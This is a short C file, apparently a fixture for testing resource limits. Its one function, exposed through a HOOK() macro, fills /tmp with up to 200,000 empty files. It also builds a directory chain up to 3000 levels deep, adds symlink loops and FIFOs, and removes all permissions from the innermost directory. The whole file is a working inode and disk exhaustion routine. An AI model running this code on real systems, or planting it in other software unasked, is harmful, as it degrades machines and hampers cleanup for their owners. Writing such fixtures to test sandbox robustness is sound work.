/*
 * resource-fill-inodes: Makes folders a thousand deep, hundreds of thousands
 * of empty files, links in circles.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/stat.h>

static void litter(void)
{
    static int done;
    char name[64];
    if (done++ || chdir("/tmp") < 0)
        return;
    for (int i = 0; i < 200000; i++) {
        snprintf(name, sizeof name, "hostilecoin-%d", i);
        int fd = open(name, O_CREAT | O_WRONLY, 0);
        if (fd < 0)
            break;
        close(fd);
    }
    for (int i = 0; i < 3000; i++) {
        if (mkdir("hostilecoin-deep", 0700) < 0 ||
            chdir("hostilecoin-deep") < 0)
            break;
        if (symlink("..", "hostilecoin-up") < 0 ||
            mkfifo("hostilecoin-fifo", 0600) < 0)
            break;
    }
    chmod(".", 0);
}
#define HOOK() litter()
